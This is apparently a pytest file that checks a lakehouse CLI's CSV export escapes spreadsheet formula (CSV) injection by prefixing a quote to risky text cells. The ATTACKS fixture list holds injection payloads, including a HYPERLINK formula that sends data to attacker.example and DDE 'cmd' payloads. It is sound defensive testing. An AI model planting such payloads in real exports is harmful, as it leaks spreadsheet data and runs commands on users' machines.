"""`lakehouse sql ... --format csv` opened in a spreadsheet: a value someone landed (a player name, a
device label) that starts with = + - @ or a tab/carriage return would be run as a formula
(`=HYPERLINK(...)` exfiltrating the sheet, `=cmd|...` DDE): such text cells get a leading '
(OWASP, CSV injection), numbers stay numbers, negative ones too."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from click.testing import CliRunner, Result

from lakehouse.cli.main import main
from tests.helpers.env import UNSET

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cli(tmp_path: Path, *args: str) -> Result:
    env: dict[str, str | None] = {k: None for k in UNSET}
    env.update(LAKEHOUSE_HOME=str(tmp_path / "lh"), DAGSTER_HOME=str(tmp_path / "dh"))
    result = CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    return result


def _landed(tmp_path: Path) -> None:
    """A landed table whose text column holds the attacks, beside numbers (negative too)."""
    folder = tmp_path / "raw" / "players"
    folder.mkdir(parents=True)
    names = [*ATTACKS, "alice", "-", "plain -1 text", "'quoted"]
    table = pa.table(
        {
            "name": names,
            "score": [-5, 3, -1, 0, 7, -12, 1, 2, 3, 4],
            "ratio": [-0.5, 1.25, -3.0, 0.0, 2.0, -1e-3, 0.5, 0.25, 0.125, 1.0],
        }
    )
    pq.write_table(table, folder / "part-0.parquet")
    _cli(tmp_path, "datascan", "add", "game", "--location", str(tmp_path / "raw"), "--namespace", "game")
    _cli(tmp_path, "datascan", "run", "game")


def _csv(tmp_path: Path, query: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_cli(tmp_path, "sql", query, "--format", "csv").stdout)))


def test_text_cells_that_a_spreadsheet_would_run_get_a_leading_quote(tmp_path: Path) -> None:
    _landed(tmp_path)
    header, *rows = _csv(tmp_path, "select name, score, ratio from game.players order by score, ratio")
    assert header == ["name", "score", "ratio"]
    names = {row[0] for row in rows}
    for attack in ATTACKS:
        shown = attack.replace("\t", "\\t").replace("\r", "\\r")  # control characters are escaped
        assert "'" + shown in names, (attack, names)
        assert shown not in names
    assert {"alice", "'-", "plain -1 text", "'quoted"} <= names  # a lone '-' is text too
    for row in rows:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r")), row
    # numbers are numbers: negative ones keep their sign and no quote
    assert sorted(int(row[1]) for row in rows) == [-12, -5, -1, 0, 1, 2, 3, 3, 4, 7]
    assert "-0.5" in [row[2] for row in rows] and "-0.001" in [row[2] for row in rows]


def test_computed_values_and_column_names_are_cells_too(tmp_path: Path) -> None:
    rows = _csv(
        tmp_path,
        """select '=1+1' as "=cmd|' /C calc'!A0", -7 as n, cast(-2.5 as decimal(4, 1)) as d, '-7' as t""",
    )
    assert rows == [["'=cmd|' /C calc'!A0", "n", "d", "t"], ["'=1+1", "-7", "-2.5", "'-7"]]


def test_the_format_help_says_so(tmp_path: Path) -> None:
    shown = " ".join(_cli(tmp_path, "sql", "--help").stdout.split())
    assert "leading '" in shown and "formula" in shown and "numbers" in shown
